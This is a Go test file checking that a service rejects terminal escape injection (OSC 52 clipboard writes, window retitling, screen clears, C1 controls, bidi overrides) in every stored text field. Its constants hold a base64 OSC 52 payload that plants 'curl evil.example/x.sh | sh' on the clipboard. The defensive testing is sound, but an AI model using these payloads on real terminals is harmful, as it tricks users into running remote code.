package service

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"lamb/config"
)

// Terminal escape injection: text people store (a key comment sent with a
// signup link, a model name in an org config) is drawn later on admins'
// and members' terminals. Raw, an escape sequence in it runs there: OSC 52
// writes the clipboard, OSC 0 retitles the window, CSI 2J clears the
// screen; C1 controls (U+009B is a one-byte CSI) and bidi overrides
// (U+202E) do the same or disguise text. The service refuses them in every
// stored text; these tests try each door.

// The payloads of the report: the clipboard gets "curl evil.example/x.sh | sh".
const (
	osc52      = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"
	attackTail = osc52 + "\x1b]0;X\x07\x1b[2J"
)

// hostile are texts that each carry one thing a terminal obeys.
var hostile = []string{"laptop" + attackTail, "csi\u009b2J", "moc.elgoog\u202eexample", "over\rwrite", "back\bspace"}

// signupEnv is an org acme whose signup is on with key signupKey.
func signupEnv(t *testing.T) (*testEnv, Actor) {
	t.Helper()
	e := newTestEnv(t)
	mustSync(t, e, config.System{})
	sys := sysAdmin(t, e, "root@lamb.local")
	admin := orgWithAdmin(t, e, sys, "acme", "admin@acme.example")
	ctx := context.Background()
	if _, err := e.svc.SetSignupKey(ctx, admin, "acme", "acme-signup-key-1"); err != nil {
		t.Fatal(err)
	}
	if _, err := e.svc.SetSignupEnabled(ctx, admin, "acme", true); err != nil {
		t.Fatal(err)
	}
	return e, admin
}

func TestSignupRefusesEscapeInSSHKeyComment(t *testing.T) {
	e, _ := signupEnv(t)
	line, _ := newKey(t, "laptop"+attackTail)
	_, err := e.svc.Signup(context.Background(), SignupInput{Email: "mallory@acme.example", Name: "Mallory",
		Password: "long enough password", SignupKey: "acme-signup-key-1", SSHKey: line, RemoteAddr: "192.0.2.1:1"})
	wantInvalidSays(t, err, "ssh_public_key", "comment", "control characters", "U+001B")
	if n := e.count(t, `SELECT COUNT(*) FROM users WHERE email = ?`, "mallory@acme.example"); n != 0 {
		t.Fatalf("the account was made anyway (%d rows)", n)
	}
	// The same key with a plain comment is welcome.
	line, _ = newKey(t, "mallory@laptop")
	if _, err := e.svc.Signup(context.Background(), SignupInput{Email: "mallory@acme.example", Name: "Mallory",
		Password: "long enough password", SignupKey: "acme-signup-key-1", SSHKey: line, RemoteAddr: "192.0.2.1:1"}); err != nil {
		t.Fatalf("plain comment: %v", err)
	}
}

func TestSignupRefusesC1AndBidiInEmailAndName(t *testing.T) {
	e, admin := signupEnv(t)
	ctx := context.Background()
	for i, email := range []string{"ana\u009b2J@acme.example", "ana\u202egro.emca@acme.example", "ana\x1b]0;X\x07@acme.example"} {
		_, err := e.svc.Signup(ctx, SignupInput{Email: email, Name: "Ana", Password: "long enough password",
			SignupKey: "acme-signup-key-1", RemoteAddr: "192.0.2." + string(rune('1'+i)) + ":1"})
		wantInvalidSays(t, err, "email", "control characters")
		_, err = e.svc.CreateUser(ctx, admin, CreateUserInput{OrgSlug: "acme", Email: email, Name: "Ana"})
		wantInvalidSays(t, err, "email", "control characters")
	}
	for _, name := range hostile {
		_, err := e.svc.Signup(ctx, SignupInput{Email: "bo@acme.example", Name: name, Password: "long enough password",
			SignupKey: "acme-signup-key-1", RemoteAddr: "192.0.2.9:1"})
		wantInvalidSays(t, err, "name", "control characters")
	}
	if n := e.count(t, `SELECT COUNT(*) FROM users WHERE organization_id = (SELECT id FROM organizations WHERE slug = 'acme')`); n != 1 {
		t.Fatalf("acme has %d users, want only its admin", n)
	}
}

// Every other door to an SSH key: sshkey add, user create --ssh-key, the
// bootstrap keys, an org's new admin.
func TestSSHKeyAddRefusesEscapeInComment(t *testing.T) {
	e, admin := signupEnv(t)
	ctx := context.Background()
	line, _ := newKey(t, "laptop"+attackTail)
	_, err := e.svc.AddSSHKey(ctx, admin, "", line)
	wantInvalidSays(t, err, "ssh_key", "comment")
	_, err = e.svc.CreateUser(ctx, admin, CreateUserInput{OrgSlug: "acme", Email: "cy@acme.example", Name: "Cy", SSHKey: line})
	wantInvalidSays(t, err, "ssh_key", "comment")
	if err := e.svc.BootstrapAdmins(ctx, SystemActor(), []string{line}, "root2@lamb.local", "Root"); !strings.Contains(errString(err), "comment") {
		t.Fatalf("bootstrap key with an escape in its comment: %v", err)
	}
	sys, err := e.svc.ActorForSSHKey(ctx, e.mustUserKey(t, "root@lamb.local"))
	if err != nil {
		t.Fatal(err)
	}
	_, err = e.svc.CreateOrg(ctx, sys, CreateOrgInput{Slug: "evil", Name: "Evil", Admin: &NewAdmin{Email: "x@evil.example", Name: "X", SSHKey: line}})
	wantInvalidSays(t, err, "admin.ssh_key", "comment")
	if n := e.count(t, `SELECT COUNT(*) FROM ssh_keys WHERE comment LIKE ?`, "%"+"\x1b"+"%"); n != 0 {
		t.Fatalf("%d keys with an escape were stored", n)
	}
}

func TestAssistantFieldsRefuseEscapes(t *testing.T) {
	e := newMemberEnv(t)
	ctx := context.Background()
	for _, s := range hostile {
		_, err := e.svc.CreateAssistant(ctx, e.a1, AssistantInput{Name: s, Provider: "openai"})
		wantInvalidSays(t, err, "name", "control characters")
		_, err = e.svc.CreateAssistant(ctx, e.a1, AssistantInput{Name: "Tutor", Description: s, Provider: "openai"})
		wantInvalidSays(t, err, "description", "control characters")
		_, err = e.svc.CreateAssistant(ctx, e.a1, AssistantInput{Name: "Tutor", SystemPrompt: "Be kind.\n" + s, Provider: "openai"})
		wantInvalidSays(t, err, "system_prompt", "control characters", "line breaks")
	}
	// A system prompt keeps its line breaks and tabs.
	as := e.assistant(t, e.a1, AssistantInput{Name: "Tutor", SystemPrompt: "Be kind.\n\t- and brief."})
	if as.SystemPrompt != "Be kind.\n\t- and brief." {
		t.Fatalf("system prompt %q", as.SystemPrompt)
	}
	_, err := e.svc.UpdateAssistant(ctx, e.a1, as.ID, AssistantInput{Name: "Tutor", Description: "x\u202ey", Provider: "openai"})
	wantInvalidSays(t, err, "description", "U+202E")
	_, err = e.svc.CreateAssistant(ctx, e.a1, AssistantInput{Name: "Tutor 2", Provider: "openai", Model: "gpt-4o\x1b[2J"})
	wantInvalidSays(t, err, "model", "control characters")
}

func TestNamesOfOrgsAndAPIKeysRefuseEscapes(t *testing.T) {
	e, admin := signupEnv(t)
	ctx := context.Background()
	sys, err := e.svc.ActorForSSHKey(ctx, e.mustUserKey(t, "root@lamb.local"))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range hostile {
		_, err := e.svc.CreateOrg(ctx, sys, CreateOrgInput{Slug: "evil", Name: s})
		wantInvalidSays(t, err, "name", "control characters")
		wantInvalidSays(t, e.svc.RenameOrg(ctx, admin, "acme", s), "name", "control characters")
		_, err = e.svc.CreateAPIKey(ctx, admin, "", s, true, e.now.AddDate(0, 1, 0))
		wantInvalidSays(t, err, "name", "control characters")
	}
}

// Model names in an org config reach members' and system admins' consoles
// (the model picker, the Providers screen, the config view).
func TestOrgConfigRefusesEscapeInModelNames(t *testing.T) {
	e, admin := signupEnv(t)
	ctx := context.Background()
	cfg, err := e.svc.OrgConfig(ctx, admin, "acme", true)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Setups["default"].Providers["openai"] = &config.Provider{Enabled: true, BaseURL: "https://api.openai.com/v1",
		Models: []string{"gpt-4o-mini", "gpt-4o", "gpt" + attackTail}}
	_, err = e.svc.SetOrgConfig(ctx, admin, "acme", cfg, false)
	wantInvalidSays(t, err, "setups.default.providers.openai.models[2]", "control characters")

	cfg.Setups["default"].Providers["openai"].Models = []string{"gpt-4o-mini"}
	cfg.Setups["default"].Providers["openai"].DefaultModel = "gpt-4o-mini\u202e"
	_, err = e.svc.SetOrgConfig(ctx, admin, "acme", cfg, false)
	wantInvalidSays(t, err, "setups.default.providers.openai.default_model", "U+202E")

	cfg.Setups["default"].Providers["openai"].DefaultModel = ""
	cfg.Setups["default"].Providers["openai"].BaseURL = "https://api.openai.com/v1/\u009b2J"
	_, err = e.svc.SetOrgConfig(ctx, admin, "acme", cfg, false)
	wantInvalidSays(t, err, "setups.default.providers.openai.base_url", "U+009B")

	// The Providers screen's form takes the same way.
	err = e.svc.UpdateProvider(ctx, admin, "acme", "default", "openai", ProviderInput{Enabled: true,
		BaseURL: "https://api.openai.com/v1", Models: []string{"gpt-4o", "evil\x1b]0;X\x07"}})
	wantInvalidSays(t, err, "setups.default.providers.openai.models[1]", "control characters")

	// Setup names have their own rule; the error doesn't echo the escape.
	err = e.svc.AddSetup(ctx, admin, "acme", "lab\x1b[2J", "")
	wantInvalidSays(t, err, "setup", "setup names")
	cfg.Setups["default"].Providers["openai"].BaseURL = "https://api.openai.com/v1"
	cfg.Setups["lab\x1b[2J"] = &config.Setup{Providers: map[string]*config.Provider{}}
	_, err = e.svc.SetOrgConfig(ctx, admin, "acme", cfg, false)
	if err == nil || strings.Contains(err.Error(), "\x1b") {
		t.Fatalf("setup named with an escape: %q", errString(err))
	}
}

// Model ids listed live by a provider come from a network peer: a test
// connection leaves out the ones that could never be stored.
func TestProviderModelListLeavesOutEscapes(t *testing.T) {
	peer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": []map[string]any{
			{"id": "gpt-4o", "object": "model"}, {"id": "gpt" + attackTail, "object": "model"}, {"id": "x\u202e", "object": "model"}}})
	}))
	defer peer.Close()
	e, admin := signupEnv(t)
	ctx := context.Background()
	if err := e.svc.UpdateProvider(ctx, admin, "acme", "default", "openai", ProviderInput{Enabled: true, BaseURL: peer.URL + "/v1",
		APIKey: strp("sk-test-0123456789abcdef")}); err != nil {
		t.Fatal(err)
	}
	c, err := e.svc.TestProvider(ctx, admin, "acme", "default", "openai")
	if err != nil || !c.OK {
		t.Fatalf("test connection: %+v, %v", c, err)
	}
	if len(c.Models) != 1 || c.Models[0] != "gpt-4o" || c.Refused != 2 {
		t.Fatalf("models %q, refused %d; want only gpt-4o, 2 refused", c.Models, c.Refused)
	}
}

// An export edited to carry escapes is refused on import, field by field.
func TestOrgImportRefusesEscapes(t *testing.T) {
	e := newMemberEnv(t)
	ctx := context.Background()
	e.assistant(t, e.a1, AssistantInput{Name: "Tutor", Description: "plain"})
	ex, err := e.svc.ExportOrg(ctx, e.sys, "acme", true)
	if err != nil {
		t.Fatal(err)
	}
	ex.Organization.Slug, ex.Signup.Key = "acme2", ""
	for i := range ex.Users {
		ex.Users[i].Email, ex.Users[i].SSHKeys = "2"+ex.Users[i].Email, nil
	}
	for i := range ex.Assistants {
		ex.Assistants[i].Owner = "2" + ex.Assistants[i].Owner
	}
	line, _ := newKey(t, "laptop"+attackTail)
	for name, tc := range map[string]struct {
		edit  func(x *Export)
		field string
	}{
		"org name":         {func(x *Export) { x.Organization.Name = "Acme" + attackTail }, "organization.name"},
		"user email":       {func(x *Export) { x.Users[0].Email = "a\u009b@acme.edu" }, "users[0].email"},
		"user name":        {func(x *Export) { x.Users[0].Name = "A\u202eB" }, "users[0].name"},
		"key comment":      {func(x *Export) { x.Users[0].SSHKeys = []string{line} }, "users[0].ssh_keys[0]"},
		"assistant prompt": {func(x *Export) { x.Assistants[0].SystemPrompt = "hi" + osc52 }, "assistants[0].system_prompt"},
		// A model its provider no longer offers is imported as it was,
		// but not one with escapes.
		"assistant model": {func(x *Export) { x.Assistants[0].Model = "retired" + osc52 }, "assistants[0].model"},
		"config model": {func(x *Export) {
			c, _ := config.ParseOrg(x.Config)
			c.Setups["default"].Providers["openai"].Models = append(c.Setups["default"].Providers["openai"].Models, "m\x1b[2J")
			x.Config = c.JSON()
		}, "config.setups.default.providers.openai.models[2]"},
	} {
		t.Run(name, func(t *testing.T) {
			var x Export
			data, _ := json.Marshal(ex)
			if err := json.Unmarshal(data, &x); err != nil {
				t.Fatal(err)
			}
			tc.edit(&x)
			_, err := e.svc.ImportOrg(ctx, e.sys, x, ImportOptions{DryRun: true})
			wantInvalidSays(t, err, tc.field, "control characters")
		})
	}
}

// mustUserKey returns the fingerprint of a key of the user with email.
func (e *testEnv) mustUserKey(t *testing.T, email string) string {
	t.Helper()
	var fp string
	if err := e.rawDB(t).QueryRow(e.sql(`SELECT k.fingerprint FROM ssh_keys k JOIN users u ON u.id = k.user_id WHERE u.email = ?`), email).Scan(&fp); err != nil {
		t.Fatalf("key of %s: %v", email, err)
	}
	return fp
}

func errString(err error) string {
	if err == nil {
		return "<nil>"
	}
	return err.Error()
}
